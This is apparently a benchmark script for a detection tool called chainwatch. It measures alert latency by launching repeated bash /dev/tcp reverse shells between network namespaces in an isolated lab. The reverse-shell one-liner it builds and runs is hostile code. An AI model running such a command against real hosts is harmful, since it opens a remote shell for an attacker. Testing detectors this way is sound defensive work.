#!/usr/bin/env python3
"""Alert latency: from the connect syscall's kernel timestamp to the alert line being in the alerts file.

Runs `chainwatch run` as shipped (bundled rules, --alerts FILE), then N bash /dev/tcp reverse shells in the
namespace lab (victim -> attacker, documentation addresses, no default route, bounded timeouts), and prints
the distribution. Each alert carries chainwatch.event_ktime (CLOCK_BOOTTIME of the triggering connect);
a reader thread stamps each line with CLOCK_BOOTTIME when it appears in the file (polled every 0.5 ms).
Needs root. Usage: bench/latency.py [-n 200] [--json FILE]  (make bench reads the numbers from FILE)
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))  # the tests package: tests/helpers/netlab.py
from tests.helpers.netlab import NetLab  # noqa: E402


def boottime_ns() -> int:
    return time.clock_gettime_ns(time.CLOCK_BOOTTIME)


class Tail(threading.Thread):
    """Stamps each new alert line with the time it became readable."""

    def __init__(self, path: Path):
        super().__init__(daemon=True)
        self.path, self.lines, self.stop = path, [], threading.Event()

    def run(self) -> None:
        while not self.path.exists() and not self.stop.is_set():
            time.sleep(0.0005)
        with self.path.open() as fh:
            buf = ""
            while not self.stop.is_set():
                chunk = fh.read()
                if not chunk:
                    time.sleep(0.0005)
                    continue
                now = boottime_ns()
                buf += chunk
                *complete, buf = buf.split("\n")
                self.lines += [(now, json.loads(line)) for line in complete if line]


def percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-n", type=int, default=200, help="reverse shells to trigger")
    parser.add_argument("--json", type=Path, help="also write the distribution to this file, as JSON")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("bench/latency.py needs root (BPF and network namespaces)")
    work = Path(f"/tmp/chainwatch-latency-{os.getpid()}")
    work.mkdir()
    alerts, log = work / "alerts.jsonl", work / "agent.log"
    agent = subprocess.Popen(
        [str(ROOT / ".venv/bin/chainwatch"), "run", "--alerts", str(alerts)],
        stderr=log.open("w"),
        stdout=subprocess.DEVNULL,
    )
    tail = Tail(alerts)
    try:
        deadline = time.monotonic() + 120
        while '"sensor_ready"' not in log.read_text():
            if time.monotonic() > deadline or agent.poll() is not None:
                sys.exit(f"agent did not become ready: {log.read_text()[-2000:]}")
            time.sleep(0.1)
        tail.start()
        with NetLab() as lab:
            port = 44444
            listener = lab.listen_tcp(
                lab.attacker_ns, port, payload=b"exit\n", duration=args.n * 2 + 30, max_conns=args.n
            )
            shell = f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{port} 0>&1; exit 0"
            for _ in range(args.n):
                lab.run(lab.victim_ns, ["bash", "-c", shell], timeout=10)
            listener.wait(timeout=30)
        time.sleep(1.0)
    finally:
        tail.stop.set()
        agent.send_signal(signal.SIGTERM)
        agent.wait(timeout=30)
        shutil.rmtree(work, ignore_errors=True)
    first_line: dict[str, tuple[int, dict]] = {}
    for seen, alert in tail.lines:
        first_line.setdefault(alert["chainwatch"]["incident"]["id"], (seen, alert))
    latencies = [(seen - alert["chainwatch"]["event_ktime"]) / 1e6 for seen, alert in first_line.values()]
    if not latencies:
        sys.exit("no alerts were written")
    print(
        f"alert latency over {len(latencies)} incidents from {args.n} reverse shells "
        f"(connect syscall -> alert line readable), ms:"
    )
    print(
        f"  median {statistics.median(latencies):.2f}  p90 {percentile(latencies, 90):.2f}  "
        f"p99 {percentile(latencies, 99):.2f}  max {max(latencies):.2f}  min {min(latencies):.2f}"
    )
    print(
        f"  targets: median <= 50 ms, p99 <= 250 ms; lines written {len(tail.lines)} "
        f"({len(tail.lines) / max(1, len(first_line)):.2f} per incident)"
    )
    if args.json:
        args.json.write_text(
            json.dumps(
                {
                    "shells": args.n,
                    "incidents": len(latencies),
                    "lines": len(tail.lines),
                    "median_ms": statistics.median(latencies),
                    "p90_ms": percentile(latencies, 90),
                    "p99_ms": percentile(latencies, 99),
                    "max_ms": max(latencies),
                    "min_ms": min(latencies),
                }
            )
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
